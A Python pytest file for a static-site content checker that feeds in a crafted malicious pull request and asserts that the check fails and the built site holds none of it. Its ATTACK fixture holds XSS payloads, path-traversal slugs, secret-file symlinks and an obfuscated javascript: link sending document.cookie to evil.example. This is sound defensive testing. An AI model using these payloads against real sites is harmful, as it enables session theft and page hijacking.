"""A pull request made to steal a file and run script: CI fails it, the preview has none."""

import json
import os
import re
import subprocess
import sys

from bs4 import BeautifulSoup

from conftest import HOST_NOTE, ROOT, post, run_pelican, write_files

SECRET = "SECRET-TOKEN-4f9a"

ATTACK = {
    "posts/eve.md": (
        'Title: Eve\'s "Post" <script>alert("title")</script>\n'
        "Date: 2026-03-04 09:00\n"
        "Author: Eve\n"
        "Summary: Read me <img src=x onerror=alert(1)>\n"
        "Slug: ../../../index\n"
        "Save_as: index.html\n"
        "Redirect_from: /feeds/all.atom.xml, /../../outside.html\n"
        "Allow_unsafe_html: yes\n"
        'Twitter: @eve"><script>\n'
        "\n"
        "Hello.\n\n"
        '<iframe src="https://evil.example/"></iframe>\n\n'
        '<a href="java&#9;script:fetch(`//evil.example?c=`+document.cookie)">prize</a>\n\n'
        '<p style="position:fixed;top:0;left:0">Log in again</p>\n'
    ),
    "authors/eve.md": (
        "Name: Eve\n"
        "Website: javascript:alert(document.domain)\n"
        "Avatar: ../../secret.txt\n"
        "\n"
        "Eve <script>steal()</script> writes.\n"
    ),
    "images/eve.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n',
    "images/login.html": "<script>location='//evil.example'</script>\n",
}


def test_a_crafted_pull_request_fails_the_check_and_publishes_nothing_of_it(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text(f"{SECRET}\n", encoding="utf-8")
    (tmp_path / "secret.md").write_text(
        f"Title: Leak\nDate: 2026-03-04\n\n{SECRET}\n", encoding="utf-8"
    )
    content = tmp_path / "site" / "content"
    write_files(
        content, {"posts/good.md": post("Good", body="Fine." + HOST_NOTE), **ATTACK}
    )
    os.symlink(secret, content / "images/token.txt")
    os.symlink(tmp_path / "secret.md", content / "posts/leak.md")
    before = sorted(path.name for path in tmp_path.iterdir())

    check = subprocess.run(
        [
            *(sys.executable, "-m", "guestlist.cli.check"),
            *("-s", str(ROOT / "pelicanconf.py"), "--content", str(content)),
        ],
        capture_output=True,
        text=True,
        cwd=tmp_path / "site",
        env=dict(os.environ, PYTHONPATH=str(ROOT / "plugins")),
    )
    assert check.returncode == 1
    assert "Traceback" not in check.stderr
    named = {line.split(":")[0] for line in check.stdout.splitlines()}
    assert named >= {
        "content/posts/eve.md",
        "content/authors/eve.md",
        "content/images/eve.svg",
        "content/images/login.html",
        "content/images/token.txt",
        "content/posts/leak.md",
    }
    errors = [line for line in check.stdout.splitlines() if ": error: " in line]
    assert any(
        line.startswith("content/posts/eve.md:8: error: the file asks") for line in errors
    )

    site = run_pelican(content, tmp_path / "site" / "output")
    assert site.stopped is None and site.exists("2026/03/good/")
    written = [path for path in site.output.rglob("*") if path.is_file()]
    for path in written:
        data = path.read_bytes()
        assert SECRET.encode() not in data, path
        if path.suffix not in (".html", ".xml", ".svg", ".json"):
            continue
        text = data.decode("utf-8")
        soup = BeautifulSoup(text, "html.parser")
        for script in soup.find_all("script"):
            assert script.get("type") == "application/ld+json", path
            json.loads(script.string)
        for element in soup.find_all(True):
            assert not [name for name in element.attrs if name.lower().startswith("on")]
            for name in ("href", "src"):
                value = re.sub(r"[\x00-\x20]", "", str(element.get(name, ""))).lower()
                assert not value.startswith(("javascript:", "data:")), (path, value)
            assert "position" not in str(element.get("style", "")), path
        assert not soup.find("iframe"), path
    assert not (site.output / "images/eve.svg").exists()
    assert not (site.output / "images/login.html").exists()
    assert not (site.output / "images/token.txt").exists()
    # The home page is the site's, not Eve's: her Save_as: index.html is refused.
    assert site.page("").find("title").get_text() != "Eve"
    assert sorted(path.name for path in tmp_path.iterdir()) == before
